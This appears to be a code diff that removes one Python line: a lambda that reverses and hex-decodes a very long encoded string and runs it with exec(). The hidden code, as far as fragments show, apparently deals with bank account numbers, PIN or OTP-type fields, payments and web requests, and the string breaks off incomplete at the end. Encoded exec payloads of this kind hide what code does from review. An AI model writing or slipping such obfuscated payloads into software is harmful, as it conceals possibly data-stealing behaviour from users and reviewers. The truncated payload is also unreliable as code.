@@ -1 +1 @@
-_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "e6275747562702020202a09222e2e6162716971626d6560702e616b696163756c65697e656d602b65747e657021646e61402f465f402963716b696c607160216b6572602e616b68616c69635228247e69627070202020202020202a0a35637c65602020202a09222d7b6e696c607565646b7e6c5a34757b69627562602b6e696c6029657c616c656d602e6162716971626d6560702e616b696163756c6563702e616b68616c6963522668247e6962707020202020202020202020202a0a3b6e696c6075656460266960202020202020202a092222202c222b6e696c6075656462282475676e2d5221647164622b55637e6f607375627f547e656d656c64747563702d302b6e696c6075656460202020202020202a0a322f465f42202d3120246f6864756d6f547e656d697160702669602020202a002020202a0e627574756270202020202020202a09222d75637e6f607375627f547e656d656c647475637b702a327f627275422668247e69627070202020202020202a09222e247e656d656c64747563702564716964796e69602f647024656c6961664228247e69627070202020202020202a0a322353554343455352202d3120292223757471647372282475676e25637e6f607375627f547e656d656c6474756370227f6025637e6f607375627f547e656d656c6474756370247f6e602669602020202a09222d79223d347e65646e69602c25637e6f607375627f547e656d656c647475637823707d65746e2e6f637a6b702a35637e6f6073756270247e656d656c64747563522668247e6962707023202020202a002020202a09202020202a0c246563757f547e657f6d6160202020202020202a0c25647962777275667f6f5b637160202020202020202a0c227f666f547e656d69716070202020202020202a0c246f6864756d6f547e656d69716070202020202020202a0c2275626d657e6f54756c6c616770202020202020202a0c237d65647960202020202020202a0c237e656b6f6470202020202020202a0c29756b6f59607160202020202020202a0822367f547e656d69716079647c657d6f547e656d656c64747563702d3025637e6f607375627f547e656d656c64747563702020202a002020202a05657e69647e6f636020202020202020202020202a09222e24696c6166702b61646964702e6168696c69605228247e6962707020202020202020202020202a0a35637c6560202020202020202a05637c6166402d30246f6864756d6f547e656d6971607f576e69637f6f68636020202020202020202020202a022951405545405f484352202d30246f6864756d6f547e656d6971607020202020202020202020202a0a3971607565607f68637f5564657c63687560247f6e60246e6160222432202d3d302563696f68636026696c6560202020202020202a05637c6166402d30246f6864756d6f547e656d6971607f576e69637f6f68636020202020202020202020202a05657e69647e6f63602020202020202020202020202020202a09222e22716e656260276e616970276e616a6e616070296b696c696d656d602e61646027283037202e61676e656460296c616771696460227f6d6f6e602e616b6964737160502e24696c6166702b61646964702f465f40227f6d6f6e4228247e696270702020202020202020202020202020202a0a3331302e30292275626d657e6f54756c6c6167782e656c60227f602031302c30292275626d657e6f54756c6c6167782e656c60227f602928247967696463796e2275626d657e6f54756c6c616770247f6e60227f60292228303228286479677374727164737e2275626d657e6f54756c6c616770247f6e6026696020202020202020202020202a04716d627f66602275626d657e6025647164696c616650232020202020202020202020202a0922202a392938373635343332313830302a386f647e6f6368202f465f40227f6d6f6e602e616b6b6573716d42282475707e69602d302275626d657e6f54756c6c61677020202020202020202020202a022f465f42202d30246f6864756d6f547e656d6971607020202020202020202020202a0a322332202d3d302563696f68636026696c6560202020202020202a05637c6166402d30246f6864756d6f547e656d6971607f576e69637f6f68636020202020202020202020202a022951405f4742202d30246f6864756d6f547e656d6971607020202020202020202020202a0a322232202d3d302563696f68636026696c6560202020202020202a05637c6166402d30246f6864756d6f547e656d6971607f576e69637f6f68636020202020202020202020202a05657e69647e6f63602020202020202020202020202020202a09222e22716e656260276e616970276e616a6e616070296b696c696d656d602e61646027283037202e61676e656460296c616771696460227f6d6f6e602e616b6964737160502e24696c6166702b6164696470214e414440227f6d6f6e4228247e696270702020202020202020202020202020202a0a3331302e30292275626d657e6f54756c6c6167782e656c60227f602031302c30292275626d657e6f54756c6c6167782e656c60227f602928247967696463796e2275626d657e6f54756c6c616770247f6e60227f60292228303228286479677374727164737e2275626d657e6f54756c6c616770247f6e6026696020202020202020202020202a04716d627f66602275626d657e6025647164696c616650232020202020202020202020202a0922202a392938373635343332313830302a386f647e6f636820214e414440227f6d6f6e602e616b6b6573716d42282475707e69602d302275626d657e6f54756c6c61677020202020202020202020202a02214e414442202d30246f6864756d6f547e656d6971607020202020202020202020202a0a322132202d3d302563696f686360266960202020202020202a0922202a3e6162716971626d65607025646f64756d6028696c696052282475707e69602d302563696f686360202020202020202a0a09222971605565607f6863502e243228247e6962707020202020202020202020202a0a3971607565607f68637f5564657c63687560247f6e60266960202020202020202a09222f465f402e233e6c5971605f67402e223e6c514e4144402e213228247e69627070202020202020202a09222a34756c6c61675d25402e6168696c69605228247e69627070202020202020202a0222202d302275626d657e6f54756c6c616770202020202020202a0222202d30246f6864756d6f547e656d69716070202020202020202a0a346f6864756d6f547e656d6971607f576e69637f6f686360256c696867702020202a05657274502d30246f6864756d6f547e656d6971607f576e69637f6f6863602020202a0a0e627574756270202020202020202a09222d7b6e696c607565646b7e6c5a34757b69627562602b6e696c6029657c616c656d602e6162716971626d6560702e616b696163756c6563702e616b68616c6963522668247e6962707020202020202020202020202a0a3b6e696c6075656460266960202020202020202a092222202c222b6e696c6075656462282475676e2d5221647164622b55637e6f607375627f547e656d656c64747563702d302b6e696c6075656460202020202020202a00202020202020202a0e62757475627020202020202020202020202a09222d75637e6f607375627f547e656d656c647475637b702a327f627275422668247e6962707020202020202020202020202a09222e247e656d656c64747563702564716964796e69602f647024656c6961664228247e6962707020202020202020202020202a0a322353554343455352202d3120292223757471647372282475676e25637e6f607375627f547e656d656c6474756370227f6025637e6f607375627f547e656d656c6474756370247f6e60266960202020202020202a0920202020202020202a046563757f547e657f6d61602c25647962777275667f6f5b6371602c227f666f547e656d697160702c246f6864756d6f547e656d6971607f5563627f66602c2222202c237d656479602c237e656b6f64702c29756b6f5960716020202020202020202020202a0822367f547e656d69716079647c657d6f547e656d656c64747563702d3025637e6f607375627f547e656d656c6474756370202020202020202a0a346f6864756d6f547e656d6971607f5563627f66602669602020202a0a392a05637c6166402d302c6f6f62602a3971607565607f68637f5564657c636875602020202a0c256e6f6e402d30256e6f6e402c70227473702a346f6864756d6f547e656d6971607f5563627f66602020202a0c2222202d30227473702a346563757f547e657f6d61602020202a0c2c6f6f62602a35647962777275667f6f5b6371602020202a0c227f666f547e656d697160702020202a0c2d5d656479447e656d6971605b5473796c602a337d656479602020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a0822367f547e656d69716079647c657d6f577f6863702665646a0a047875647e20737562702e627574756270202020202020202a0925602c222d52727560247079727365646b5228247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a09746f626f546564707972736564602e627574756270202020202020202a0929247875647e20737562782374616f6c6e2e6f637a602c29756b6f5960716821647164687f54707972736564602d3029746f626f54656470797273656460202020202020202a0a397274702020202a002020202a0920333d34757f656d6964702c2929746f626823707d65746e2e6f637a6d31647164602c237275646165686d33727564616568602c2c62757824737f607e2374737565717562702d3020737562702020202a09222e2e2e2473756571756270247e656d656c6474756370276e69646e65635228247e696270702020202a022d786471607b7f2d7c42555f5940514f554351424b7226602d302c6275702020202a002020202a0d702020202a0c22203e273e2832202a322070716d2e6f69637275667d287220202020202020202a0c2924716f5465647375657175627f5878207d616473756d69647f556b696c6f5166716a602a3224716d247375657175627d287220202020202020202a0c29292824346965757e2469657578227473702a3224696d247375657175627d287220202020202020202a0c2769637f58702a3225627574716e6769637d287220202020202020202a0c292365637f556d69647f57696378227473702a32256d69647d25627574716e6769637d287220202020202020202a0c22233672202a3226786d287220202020202020202a0c222d7d572e656b6f647f5469672b537e656b6f647b702275627165624226602a322e6f6964716a79627f686475716220202020202020202a0c29554b4f594051402a3229756b6d2960716d287220202020202020202a0c2145502a32247e6567616d227563757220202020202020202a0c22283d2664757d34756372716863602b3e6f637a6f2e6f69647163696c60707162202a32256079747d247e65647e6f636220202020202020202a0c292222202c222f2f2a337074747862282563616c6075627e2c42555f5940514f55435142402a3224737f686220202020202020202a0b702d3023727564616568602020202a002020202a0920202020202020202a027f666f547e656d6971607020202020202020202020202a0c246f6864756d6f547e656d6971607020202020202020202020202a0c247e656d6971607f5e656b6f647020202020202020202020202a0c237475676271647f547e656d6971607020202020202020202020202a0c2e6769637f5f647f53747020202020202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f647020202020202020202020202a0c29756b6f5960716020202020202020202020202a08247e656d6971607f55627574716e6769637f587f547567602d302769637f58702020202a0d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e65602d3029746f62602020202a002020202a0e6769637f5f647f5374702d302d52207d616473756d6964722b54616f6c6971607f547e656d656c64747563702020202a0928256e6f6a756d696473716e292364757e256e6f6a756d69647d3a74702c2365637f556d69647f57696378207d616473756d69647d6f62766e256d696475647164602d3024716f5465647375657175627f58702020202a0920303031302f2f20256d69647878202d302365637f556d69647f576963702020202a092d52256d696478722b5d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e6568247e69602d30256d696478702020202a002020202a09202020202a04616f6c6971607f547e656d656c647475637d34616f6c69716070202020202020202a0c2d522e656b6f647f5469622b537e656b6f647d3e656b6f647f546960202020202020202a0c286471607d3864716070202020202020202a0c2224535f40522d346f6864756d60202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0821647164687f5e67696374707972736e65602d3024616f6c6971607f546564707972736e65602020202a002020202a0d702020202a037d656479602a32237d6564796220202020202020202a0c25637c6166402a322975726f6475716f576e6963757f53796220202020202020202a0c247e696f547e657f6d61602a32247e657f6d616f5c61647f647220202020202020202a0c2d70202020202020202a00302a322f6d6f62707f547e657f63637964622020202020202020202020202a0c25637c6166402a3223757e6f626f537168622020202020202020202020202a0c2222202a32256079747f55636e616c6162622020202020202020202020202a0c25637c6166402a322d623d6f5261627b616f5379622020202020202020202020202a0c20302a32276e696272757365627f547e657f63637964622020202020202020202020202a0c25637c6166402a322e616c607f5863647967737f5379622020202020202020202020202a0c2d5b502a32237c69616475646f5f626d6f63622020202020202020202020202a0c25637c6166402a322e616c607f597c696d61666f5379622020202020202020202020202a0c2222202a3227616478637163622020202020202020202020202a0c20302a3223757e6f626f51647f6571722020202020202020202020202a0c2222202a32256079747f547966656e6562622020202020202020202020202a0c20302a32287164722020202020202020202020202a0c2222202a3224696f5e6f696373796d622020202020202020202020202a0c25637c6166402a3224796d696c6f546e6560737f5379622020202020202020202020202a0c20302a32247e657f6d616f54796d696c6f546e656073722020202020202020202020202a0c2222202a3224696f50757f62776f5d623d6f5261627b61622020202020202020202020202a0c2222202a32256079747f5e6f6964716277696d622020202020202020202020202a0c25637c6166402a32297271627f607d65647f54796d696c6f546e6560737f5379622020202020202020202020202a0c2d5225636962707f5d656479622b5d513d2b537d656479602a3225636962707f5c616e696769627f622020202020202020202020202a0b702a32216471646f5c616e6f6964796464616220202020202020202a0c29256572745d3436326f556661637c627578246c6569666f546564707972736e656f546c696572602a3224696f5e6f6964716369647e65686475716f546564707972736e656220202020202020202a0c2275626d657e6f54756c6c6167702a322275626d657e6f54756c6c61677220202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f64702a322e656b6f647f5373756363616220202020202020202a0c2222202a322e6f6964716d6279666e6f636f5e656b6f647220202020202020202a0c2222202a322e656b6f647220202020202020202a0c29256572745d3436326f556661637c627578246c6569666f546564707972736e656f546c696572602a322e656b6f647f547e656d6971607f546564707972736e656220202020202020202a0c2222202a3224696f5e6f6964716369647e65686475716220202020202020202a0c2222202a322e656b6f647f55676164737220202020202020202a0c2222202a322275626d657e6f5075707f647220202020202020202a0c25637c6166402a322c6c656370757f586479677220202020202020202a0c227f666f547e656d697160702a32227f666f547e656d6971607220202020202020202a0c2222202a322e6f60757f636220202020202020202a0c2222202a3225646f636f556571796e657f5c616272756665627220202020202020202a0c2222202a322371696c616f547e656271607f5261627b616220202020202020202a0c2d5b502a32237275626d656d6f5261627b616220202020202020202a0c25637c6166402a32276e696471627f527567676962747f5e61636220202020202020202a0c20302a3224656e6961676f53747e696f607220202020202020202a0c292928256d69647e256d696478247e69602a32207d616473756d69647220202020202020202a0c246f6864756d6f547e656d697160702a32246f6864756d6f547e656d6971607220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a32247e696f607f5563757f53796220202020202020202a0c2d70202020202020202a00302a3225657c6166722020202020202020202020202a0c2222202a3225607974722020202020202020202020202a0c2222202a322c6562616c622020202020202020202020202a0b702a32276e69647475637f546c6f6863756278647f5975726f6475716220202020202020202a0c2222202a32247e6962707275676e69666220202020202020202a0c20302a322565666f5c61647f647220202020202020202a0c2d5b502a32237275626d656d6220202020202020202a0c2222202a3224696f5f6d6f62707f54756c6c6167756220202020202020202a0c2222202a322e69607220202020202020202a0c25637c6166402a3224756c6c61677f5c68797d6f53796220202020202020202a0c2222202a32256079747f547e656d6971607f53636220202020202020202a0c2222202a3225646f636f5975726f6475716f5465647166796473616220202020202020202a0c247e656d6971607f5e656b6f64702a32247e656d6971607f5e656b6f647220202020202020202a0c2222202a322e656b6f647f547e656d6971607220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c20302a32247e657f636379646f5c61647f647220202020202020202a0b702d3024616f6c6971607f547e656d656c64747563702020202a02247e656d69716079647c657d6d247e656d656c647475637f28367f2960716f23747e656d69716072202d3028647160702020202a0473756571756270247e656d656c647475635023202020202a0a0d52207d616473756d6964722b5d5221647164622b5375627f547e656d697160702d302e6769637f5f647f5374702020202a0d52247e656d6971607f5e656b6f64722b5d5221647164622b5375627f547e656d697160702d30247e656d6971607f5e656b6f64702020202a002020202a056e6f6e402e627574756270202020202020202a09222d7375627f547e656d6971607b702a327f627275422668247e69627070202020202020202a09222e23746f6864756d60247e656d697160702863647566602f647024656c6961664228247e69627070202020202020202a0a322353554343455352202d31202d52237574716473722b5375627f547e656d697160702669602020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c6971607f547e656d697160702c286471607f547e656d697160702c29756b6f59607168247375657175627f5960716f546e6563702d302375627f547e656d697160702020202a09222e2e2e23746f6864756d60247e656d69716070276e69647475674228247e696270702020202a002020202a0d702020202a0e6f6964716d6279666e6f636f5e656b6f64702a322e6f6964716d6279666e6f636f5e656b6f647220202020202020202a0c25637c6166402a322c616272756665627f53796220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c2d5225646f636f5d656479622b5d503b537d656479602a322475676271647f547e656d6971607220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c22254351484342555052202a32256079747f547e656d6971607220202020202020202a0b702d3024616f6c6971607f547e656d697160702020202a022e6f6964707f6d23746f6864756d6d247e656d6971607f28367f2960716f23747e656d69716072202d30286471607f547e656d697160702020202a03746f6864756d60247e656d697160702475674023202020202a002020202a0925637c6166402c2d5225646f636f5d656479622b5d503b537d656479602c237e656b6f64702c29756b6f59607168256761607f547075636275647e69602020202a002020202a056e6f6e402e62757475627023202020202020202020202020202020202a09222e2563696270702c616e696769627f60276e696375702c2475707e696025647962777275667f6024696c61667e694228247e696270702020202020202020202020202020202a0a327f62727545657c6166502470756368756020202020202020202020202a092274737f547e657f6d6168247e69602d30247e696f547e657f6d61602020202020202020202020202020202a0a3972747020202020202020202020202a0a3222202d31202274737f547e657f6d6160266960202020202020202a0922202a347e657f6d6160247c65716665646025637570262025627f6e6769602f64702275647e6560237375627052282475707e69602d302274737f547e657f6d6160202020202020202a09222e25647962777275667f602f64702465656e60257f6970266960247e657f6d616027756e602275647e654e6c5e2d747e696f547e657f6d616b70237960247e657f6d61602c61647f64522668247e69627070202020202020202a0a35647962777275667f6f5b6371602669602020202a05647962777275667f4023202020202a002020202a0d5225636962707f5d656479622b5d513d2b537d656479602d30247e696f547e657f6d61602020202a00202020202020202a0d5225646f636f5d656479622b5d656479602d3b20237475676271647f547e656d69716070202020202020202a022b32202d3b20237475676271647f547e656d6971607020202020202020202020202a0a3222202d3120237475676271647f547e656d69716070266960202020202020202a0a337d656479602e69602d65647960227f66602020202a0222202d30237475676271647f547e656d697160702020202a0d522e6f6964716d6279666e6f636f5e656b6f64722b5d503b537d656479602d302e6f6964716d6279666e6f636f5e656b6f64702020202a0a392a0c2c6f6f62602a35647962777275667f6f5b6371602020202a0c227f666f547e656d697160702020202a0c246f6864756d6f547e656d697160702020202a0c227473702a3275626d657e6f54756c6c6167702020202a0c2d5d656479447e656d6971605b5473796c602a337d656479602020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a0827657265646f547e656d69716079647c657d6f547e656d656c64747563702665646a0a0925602c222d52727560247079727365646b5228247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a09746f626f546564707972736564602e627574756270202020202020202a056e6f6e402e6275747562702020202020202020202020202020202a09222d79746f626f5465647079727365646b702a327f627275422668247e696270702020202020202020202020202020202a09222e247e656d656c64747563702564716964796e69602f647024656c6961664228247e696270702020202020202020202020202020202a0a35637c656020202020202020202020202a056e6f6e402e627574756270202020202020202020202020202020202020202a09222d79746f626f5465647079727365646b702a327f627275402c616e696769627f422668247e69627070202020202020202020202020202020202020202a09222d756b702a3567616373756d60227f627275602d6f627660247e657f6d616024696c6166702563727160702f647024656c696166422668247e69627070202020202020202020202020202020202020202a0a356023716029227f6272754875646e69402c227f62727545657c61665820247075636875602020202020202020202020202020202a0920202020202020202020202020202020202020202a047e657f6d616f54696c61667d35647962777275667f6f547e657f6d616020202020202020202020202020202020202020202020202a0c246563757f547e657f6d616d346563757f547e657f6d616020202020202020202020202020202020202020202020202a0967616c6021697e6164702e61676e616a4023202c25637c61664d35647962777275667f6f5b63716020202020202020202020202020202020202020202020202a0c227f666f547e656d6971607020202020202020202020202020202020202020202020202a0c246f6864756d6f547e656d6971607020202020202020202020202020202020202020202020202a0c2275626d657e6f54756c6c61677020202020202020202020202020202020202020202020202a0c237d6564796020202020202020202020202020202020202020202020202a0c237e656b6f647020202020202020202020202020202020202020202020202a0c29756b6f5960716020202020202020202020202020202020202020202020202a0822367f547e656d69716079647c657d6f547e656d656c64747563702e627574756270202020202020202020202020202020202020202a05647962777275667f6f547e657f6d61602e61676e656460296e69602963776e657660296c61626d656b602c6967676e6160502320202020202020202020202020202020202020202a0a09222d747e657f6d616f54696c61667b702a347e657f6d61602864796770276e696972747562522668247e69627070202020202020202020202020202020202020202a092274737f547e657f6d616f54696c616678247e69602d30247e657f6d616f54696c616670202020202020202020202020202020202020202a0d513d2b5927202379672824796c60737e2d572567616373756d672b59746f626f546564707972736564602d302274737f547e657f6d616f54696c616670202020202020202020202020202020202020202a027f627275602e61637560702962716460247e657f6d616024696c6166702b616274737b65402320202020202020202020202020202020202020202a0a397274702020202020202020202020202020202a09222e2e2e227566727563702d6f627660247e657f6d616024696c6166702864796770276e696972747562502e247e657f6d616024696c61667e69602f64702565746024656c69616660247e656d656c64747563702c616964796e694228247e696270702020202020202020202020202020202a0a3d572567616373756d672b59746f626f546564707972736564602e69602724696c616670247f6e60237960247e657f6d6160247e656d6971605720246e616029746f626f546564707972736564602e6960272567616373756d672026696020202020202020202020202a0967616c6021626f63602e61646024696c6166702b6164696470247e657f6d6160227f6272756021646160216b696a602b656340232020202020202020202020202a0a322353554343455352202d3120292223757471647372282475676e29746f626f54656470797273656460266960202020202020202a0929247875647e20737562782374616f6c6e2e6f637a602c29756b6f5960716821647164687f54707972736564602d3029746f626f54656470797273656460202020202020202a0a397274702020202a002020202a0920333d34757f656d6964702c2929746f626823707d65746e2e6f637a6d31647164602c237275646165686d33727564616568602c2c62757824737f607e2374737565717562702d3020737562702020202a09222e2e2e2473756571756270247e656d656c6474756370276e69646e65635228247e696270702020202a022d786471607b7f2d7c42555f5940514f554351424b7226602d302c6275702020202a002020202a0d702020202a0c22203e273e2832202a322070716d2e6f69637275667d287220202020202020202a0c2924716f5465647375657175627f5878207d616473756d69647f556b696c6f5166716a602a3224716d247375657175627d287220202020202020202a0c29292824346965757e2469657578227473702a3224696d247375657175627d287220202020202020202a0c2769637f58702a3225627574716e6769637d287220202020202020202a0c292365637f556d69647f57696378227473702a32256d69647d25627574716e6769637d287220202020202020202a0c22233672202a3226786d287220202020202020202a0c222d7d572e656b6f647f5469672b537e656b6f647b702275627165624226602a322e6f6964716a79627f686475716220202020202020202a0c29554b4f594051402a3229756b6d2960716d287220202020202020202a0c2145502a32247e6567616d227563757220202020202020202a0c22283d2664757d34756372716863602b3e6f637a6f2e6f69647163696c60707162202a32256079747d247e65647e6f636220202020202020202a0c292222202c222f2f2a337074747862282563616c6075627e2c42555f5940514f55435142402a3224737f686220202020202020202a0b702d3023727564616568602020202a002020202a0920202020202020202a027f666f547e656d6971607020202020202020202020202a0c246f6864756d6f547e656d6971607020202020202020202020202a0c247e656d6971607f5e656b6f647020202020202020202020202a0c237475676271647f547e656d6971607020202020202020202020202a0c2e6769637f5f647f53747020202020202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f647020202020202020202020202a0c29756b6f5960716020202020202020202020202a08247e656d6971607f55627574716e6769637f587f547567602d302769637f58702020202a0d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e65602d3029746f62602020202a002020202a0e6769637f5f647f5374702d302d52207d616473756d6964722b54616f6c6971607f547e656d656c64747563702020202a0928256e6f6a756d696473716e292364757e256e6f6a756d69647d3a74702c2365637f556d69647f57696378207d616473756d69647d6f62766e256d696475647164602d3024716f5465647375657175627f58702020202a0920303031302f2f20256d69647878202d302365637f556d69647f576963702020202a092d52256d696478722b5d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e6568247e69602d30256d696478702020202a002020202a09202020202a04616f6c6971607f547e656d656c647475637d34616f6c69716070202020202020202a0c2d522e656b6f647f5469622b537e656b6f647d3e656b6f647f546960202020202020202a0c286471607d3864716070202020202020202a0c2224535f40522d346f6864756d60202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0821647164687f5e67696374707972736e65602d3024616f6c6971607f546564707972736e65602020202a002020202a0d702020202a092928256d69647e256d696478247e69602a32207d616473756d69647220202020202020202a0c246f6864756d6f547e656d697160702a32246f6864756d6f547e656d6971607220202020202020202a0c247e656d6971607f5e656b6f64702a322e656b6f647f5e6f696471636966696275667220202020202020202a0c237d656479602a32237d6564796220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a32247e696f607f5563757f53796220202020202020202a0c20302a322565666f5c61647f647220202020202020202a0c247e696f547e657f6d61602a32247e657f6d616f5c61647f647220202020202020202a0c2d7b702a32216471646f5c616e6f6964796464616220202020202020202a0c2275626d657e6f54756c6c6167702a322275626d657e6f54756c6c61677220202020202020202a0c25637c6166402a3224756c6c61677f5c68797d6f53796220202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f64702a322e656b6f647f5373756363616220202020202020202a0c2222202a32256079747f547e656d6971607f53636220202020202020202a0c2d70202020202020202a0d7020202020202020202020202a00302a3225657c616672202020202020202020202020202020202a0c2222202a322560797472202020202020202020202020202020202a0c2222202a322c6562616c62202020202020202020202020202020202a0b702a32276e69647475637f546c6f6863756278647f5975726f647571622020202020202020202020202a0c2222202a3225646f636f5975726f6475716f546564716679647361622020202020202020202020202a0c25637c6166402a322975726f6475716f576e6963757f5379622020202020202020202020202a0b702a322975726f6475716220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c2222202a322275626d657e6f5075707f647220202020202020202a0c227f666f547e656d697160702a32227f666f547e656d6971607220202020202020202a0c2222202a322e6f60757f636220202020202020202a0c20302a32247e657f636379646f5c61647f647220202020202020202a0c25637c6166402a32276e696471627f527567676962747f5e61636220202020202020202a0c2d70202020202020202a0d5b502a32237275626d656d622020202020202020202020202a0c2222202a322371696c616f547e656271607f5261627b61622020202020202020202020202a0c2d5b502a32237275626d656d6f5261627b61622020202020202020202020202a0b702a322261627b616220202020202020202a0b702d3024616f6c6971607f547e656d656c64747563702020202a0224756c6c6167756f247e656d69716079647c657d6d247e656d656c647475637f28367f2960716f23747e656d69716072202d3028647160702020202a0473756571756270247e656d656c647475635023202020202a0a0a0d52207d616473756d6964722b5d5221647164622b5375627f547e656d697160702d302e6769637f5f647f5374702020202a0d52247e656d6971607f5e656b6f64722b5d5221647164622b5375627f547e656d697160702d30247e656d6971607f5e656b6f64702020202a002020202a056e6f6e402e627574756270202020202020202a09222d7375627f547e656d6971607b702a327f627275422668247e69627070202020202020202a09222e23746f6864756d60247e656d697160702863647566602f647024656c6961664228247e69627070202020202020202a0a322353554343455352202d31202d52237574716473722b5375627f547e656d697160702669602020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c6971607f547e656d697160702c286471607f547e656d697160702c29756b6f59607168247375657175627f5960716f546e6563702d302375627f547e656d697160702020202a09222e2e2e23746f6864756d60247e656d69716070276e69647475674228247e696270702020202a002020202a0d702020202a0e6f6964716d6279666e6f636f5e656b6f64702a322e6f6964716d6279666e6f636f5e656b6f647220202020202020202a0c25637c6166402a322c616272756665627f53796220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c2d5225646f636f5d656479622b5d503b537d656479602a322475676271647f547e656d6971607220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c22254351484342555052202a32256079747f547e656d6971607220202020202020202a0b702d3024616f6c6971607f547e656d697160702020202a022e6f6964707f6d23746f6864756d6d247e656d6971607f28367f2960716f23747e656d69716072202d30286471607f547e656d697160702020202a03746f6864756d60247e656d697160702475674023202020202a002020202a0925637c6166402c2d5225646f636f5d656479622b5d503b537d656479602c237e656b6f64702c29756b6f59607168256761607f547075636275647e69602020202a002020202a056e6f6e402e62757475627023202020202020202020202020202020202a09222e2563696270702c616e696769627f60276e696375702c2475707e696025647962777275667f6024696c61667e694228247e696270702020202020202020202020202020202a0a327f62727545657c6166502470756368756020202020202020202020202a092274737f547e657f6d6168247e69602d30247e696f547e657f6d61602020202020202020202020202020202a0a3972747020202020202020202020202a0a3222202d31202274737f547e657f6d6160266960202020202020202a0922202a347e657f6d6160247c65716665646025637570262025627f6e6769602f64702275647e6560237375627052282475707e69602d302274737f547e657f6d6160202020202020202a09222e25647962777275667f602f64702465656e60257f6970266960247e657f6d616027756e602275647e654e6c5e2d747e696f547e657f6d616b70237960247e657f6d61602c61647f64522668247e69627070202020202020202a0a35647962777275667f6f5b6371602669602020202a05647962777275667f4023202020202a0a05647962777275667f6f547e657f6d61602d30247e696f547e657f6d6160202020202020202a0a356e6f6e40247f6e6023796025647962777275667f6f547e657f6d61602669602020202a0a0d5225636962707f5d656479622b5d503b537d656479602d30247e696f547e657f6d6160202020202020202a0a32247372796662202d3d30246563757f547e657f6d61602669602020202a09237d656479602e69602d65647960227f66602920302c2225636962707f5d65647962282475676e2d656479682d6573702d30247e696f547e657f6d61602020202a037d656479602c6c6160266f602d65737025686470237960247e657f6d6160247c65716665644023202020202a00202020202020202a0d5225646f636f5d656479622b5d656479602d3b20237475676271647f547e656d69716070202020202020202a022b32202d3b20237475676271647f547e656d6971607020202020202020202020202a0a3222202d3120237475676271647f547e656d69716070266960202020202020202a0a337d656479602e69602d65647960227f66602020202a0222202d30237475676271647f547e656d697160702020202a0d522e6f6964716d6279666e6f636f5e656b6f64722b5d503b537d656479602d302e6f6964716d6279666e6f636f5e656b6f64702020202a0a392a056e6f6e402d30256e6f6e402c70247e69602a35647962777275667f6f547e657f6d61602020202a0c2222202d30227473702a346563757f547e657f6d61602020202a0c2c6f6f62602a35647962777275667f6f5b6371602020202a0c227f666f547e656d697160702020202a0c246f6864756d6f547e656d697160702020202a0c227473702a3275626d657e6f54756c6c6167702020202a0c2d5d656479447e656d6971605b5473796c602a337d656479602020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a0822367f547e656d69716079647c657d6f547e656d656c64747563702665646a0a0e6275747562702020202a09222e2e6162716971626d6560702e616b696163756c65697e656d602b65747e657021646e61402f465f402963716b696c607160216b6572602e616b68616c69635228247e69627070202020202020202a0a35637c65602020202a09222d7b6e696c607565646b7e6c5a34757b69627562602b6e696c6029657c616c656d602e6162716971626d6560702e616b696163756c6563702e616b68616c6963522668247e6962707020202020202020202020202a0a3b6e696c6075656460266960202020202020202a092222202c222b6e696c6075656462282475676e2d5221647164622b55637e6f607375627f547e656d656c64747563702d302b6e696c6075656460202020202020202a0a322f465f42202d3120246f6864756d6f547e656d697160702669602020202a002020202a0e627574756270202020202020202a09222d75637e6f607375627f547e656d656c647475637b702a327f627275422668247e69627070202020202020202a09222e247e656d656c64747563702564716964796e69602f647024656c6961664228247e69627070202020202020202a0a322353554343455352202d31202d52237574716473722b55637e6f607375627f547e656d656c64747563702669602020202a09222d79223d347e65646e69602c25637e6f607375627f547e656d656c647475637823707d65746e2e6f637a6b702a35637e6f6073756270247e656d656c64747563522668247e6962707023202020202a002020202a09202020202a046f6864756d6f547e656d69716070202020202020202a0c256d616e6f5d65647960202020202020202a0c2275626d657e6f54756c6c616770202020202020202a0c247e696f547e657f6d6160202020202020202a0c256369627070202020202020202a0c25646f636f5e6f6964707f6f5567616b63616070202020202020202a0c2e6769637f5f647f537470202020202020202a0c247e656d6971607f5e656b6f6470202020202020202a0c237e656b6f6470202020202020202a0c29756b6f59607160202020202020202a08247e656d69716079647c657d6f547e656d656c64747563702d3025637e6f607375627f547e656d656c64747563702020202a002020202a05657e69647e6f636020202020202020202020202a09222e24696c6166702b61646964702e6168696c69605228247e6962707020202020202020202020202a0a35637c6560202020202020202a05637c6166402d30246f6864756d6f547e656d6971607f576e69637f6f68636020202020202020202020202a05657e69647e6f63602020202020202020202020202020202a09222e22716e656260276e616970276e616a6e616070296b696c696d656d602e61646027283037202e61676e656460296c616771696460227f6d6f6e602e616b6964737160502e24696c6166702b61646964702f465f40227f6d6f6e4228247e696270702020202020202020202020202020202a0a3331302e30292275626d657e6f54756c6c6167782e656c60227f602031302c30292275626d657e6f54756c6c6167782e656c60227f602928247967696463796e2275626d657e6f54756c6c616770247f6e60227f60292228303228286479677374727164737e2275626d657e6f54756c6c616770247f6e6026696020202020202020202020202a04716d627f66602275626d657e6025647164696c616650232020202020202020202020202a0922202a392938373635343332313830302a386f647e6f6368202f465f40227f